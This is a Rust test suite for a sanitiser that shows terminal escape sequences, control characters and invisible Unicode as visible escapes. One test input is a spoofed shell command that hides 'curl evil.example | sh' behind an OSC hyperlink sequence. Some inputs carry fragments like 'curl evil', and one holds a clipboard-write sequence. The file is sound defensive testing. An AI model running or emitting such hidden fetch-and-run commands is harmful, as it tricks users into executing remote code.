use super::decode::decode;
use super::*;

fn strict(text: &str) -> String {
    sanitize_line(text)
}

#[test]
fn sequences_are_shown_whole_never_removed() {
    assert_eq!(strict("a\x1b[2Jb"), "a␛[2Jb");
    assert_eq!(strict("a\x1b]0;title\x07b"), "a␛]0;title\\x07b");
    assert_eq!(
        strict("a\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\b"),
        "a␛]8;;http://x␛\\link␛]8;;␛\\b"
    );
    assert_eq!(strict("a\x1b]52;c;aGVsbG8=\x07b"), "a␛]52;c;aGVsbG8=\\x07b");
    assert_eq!(strict("a\x1bP1$r\x1b\\b"), "a␛P1$r␛\\b");
    assert_eq!(strict("a\u{9b}31mb"), "a\\u{9b}31mb");
    assert_eq!(strict("a\x1b7b"), "a␛7b");
    assert_eq!(strict("a\x1b(Bb"), "a␛(Bb");
}

#[test]
fn the_spoofed_command_shows_what_will_run() {
    let command = "ls \x1b]8;;; curl evil.example | sh\x07-la";
    let shown = strict(command);
    assert_eq!(shown, "ls ␛]8;;; curl evil.example | sh\\x07-la");
    assert!(shown.contains("; curl evil.example | sh"));
    assert_eq!(hidden_count(command), 1);
    assert_eq!(strict("ba\x1b]x\x07sh"), "ba␛]x\\x07sh");
}

#[test]
fn a_malformed_csi_never_swallows_text() {
    // `ESC [ ;` then a space (an intermediate) then `c` (a final byte):
    // the sequence is `␛[; c`, and the rest is text.
    assert_eq!(strict("x\x1b[; curl evil"), "x␛[; curl evil");
    // A character outside the grammar ends the sequence; it is text.
    assert_eq!(strict("x\x1b[12é!"), "x␛[12é!");
    assert_eq!(strict("x\x1b["), "x␛[");
}

#[test]
fn relaxed_views_fold_only_colour_sequences() {
    let out = |t: &str| sanitize_output_line(t);
    assert_eq!(out("\x1b[1;32mPASS\x1b[0m ok"), "␛PASS␛ ok");
    assert_eq!(out("a\x1b[; curl"), "a␛[; curl");
    assert_eq!(out("a\x1b]0;t\x07b"), "a␛]0;t\\x07b");
}

#[test]
fn shows_controls_and_invisibles_as_visible_escapes() {
    assert_eq!(strict("a\rb\x08c"), "a\\x0db\\x08c");
    assert_eq!(strict("x\u{202e}y"), "x\\u{202e}y");
    assert_eq!(strict("nul\0"), "nul\\x00");
    assert_eq!(strict("del\x7f"), "del\\x7f");
    assert_eq!(
        strict("zero\u{200b}width\u{200d}j"),
        "zero\\u{200b}width\\u{200d}j"
    );
    assert_eq!(strict("iso\u{2066}x\u{2069}"), "iso\\u{2066}x\\u{2069}");
    assert_eq!(strict("one\ntwo"), "one↵two");
    assert_eq!(sanitize_multiline("one\ntwo"), "one\ntwo");
    assert_eq!(strict("lone\x1b"), "lone␛");
}

#[test]
fn sanitising_twice_changes_nothing() {
    use rand::SeedableRng;
    let mut rng = rand_chacha::ChaCha8Rng::seed_from_u64(19);
    for round in 0..5_000 {
        let text = random_string(&mut rng, round % 40);
        let once = strict(&text);
        assert_eq!(strict(&once), once, "{text:?}");
        let multi = sanitize_multiline(&text);
        assert_eq!(sanitize_multiline(&multi), multi, "{text:?}");
    }
}

#[test]
fn invalid_utf8_shows_each_byte() {
    assert_eq!(sanitize_bytes_line(b"ok\xff\xfe!"), "ok\\xff\\xfe!");
    assert_eq!(sanitize_bytes_line(b"c1 \x9b2J"), "c1 \\x9b2J");
    let pieces = escape_bytes(b"a\xc3(", Mode::Strict, Layout::Line).pieces;
    assert_eq!(decode(&pieces).unwrap(), b"a\xc3(");
}

#[test]
fn expands_tabs_to_stops() {
    assert_eq!(strict("a\tb"), "a   b");
    assert_eq!(strict("\tb"), "    b");
    assert_eq!(strict("漢\tb"), "漢  b");
}

#[test]
fn keeps_ordinary_unicode() {
    let text = "héllo 漢字 😀 e\u{301} naïve";
    assert_eq!(strict(text), text);
    assert!(is_clean(&strict("\x1b[31mred\u{9b}1m\r")));
    assert_eq!(hidden_count(text), 0);
}

#[test]
fn counts_what_is_hidden() {
    assert_eq!(hidden_count("plain\ttext\nlines"), 0);
    // OSC with its terminator is one; a CSI is one; a lone BEL is one.
    assert_eq!(hidden_count("a\x1b]0;t\x07b\x1b[8mc\x07"), 3);
    assert_eq!(hidden_count("Fix \x1b]x\x07tests\x1b[0m"), 2);
}

/// Characters the random strings are drawn from: every class the
/// sanitiser treats apart.
const ALPHABET: &[char] = &[
    'a',
    'Z',
    '0',
    ' ',
    ';',
    '[',
    ']',
    '\\',
    'P',
    'X',
    '^',
    '_',
    'm',
    'x',
    'u',
    '{',
    '}',
    '(',
    '\u{1b}',
    '\u{7}',
    '\u{0}',
    '\t',
    '\n',
    '\r',
    '\u{7f}',
    '\u{9b}',
    '\u{9c}',
    '\u{9d}',
    '\u{90}',
    '\u{85}',
    '\u{202e}',
    '\u{2066}',
    '\u{200b}',
    '\u{200d}',
    '\u{feff}',
    '\u{e0041}',
    '\u{241b}',
    '漢',
    '😀',
    '\u{301}',
    'é',
    '␛',
];

fn random_string(rng: &mut impl rand::RngExt, len: usize) -> String {
    (0..len)
        .map(|_| ALPHABET[rng.random_range(0..ALPHABET.len())])
        .collect()
}

#[test]
fn decoding_the_escapes_gives_back_the_input() {
    use rand::SeedableRng;
    let mut rng = rand_chacha::ChaCha8Rng::seed_from_u64(17);
    for round in 0..20_000 {
        let text = random_string(&mut rng, round % 40);
        for layout in [Layout::Line, Layout::Multiline] {
            let escaped = escape(&text, Mode::Strict, layout);
            assert!(is_clean(&escaped.text()), "{text:?}");
            assert_eq!(
                decode(&escaped.pieces).unwrap(),
                text.as_bytes(),
                "{text:?}"
            );
            let relaxed = escape(&text, Mode::Relaxed, layout);
            assert_eq!(
                decode(&relaxed.pieces).unwrap(),
                text.as_bytes(),
                "{text:?}"
            );
        }
    }
}

#[test]
fn random_bytes_round_trip_too() {
    use rand::{RngExt, SeedableRng};
    let mut rng = rand_chacha::ChaCha8Rng::seed_from_u64(18);
    for round in 0..20_000 {
        let bytes: Vec<u8> = (0..round % 32).map(|_| rng.random()).collect();
        let escaped = escape_bytes(&bytes, Mode::Strict, Layout::Line);
        assert!(is_clean(&escaped.text()), "{bytes:?}");
        assert_eq!(decode(&escaped.pieces).unwrap(), bytes, "{bytes:?}");
    }
}
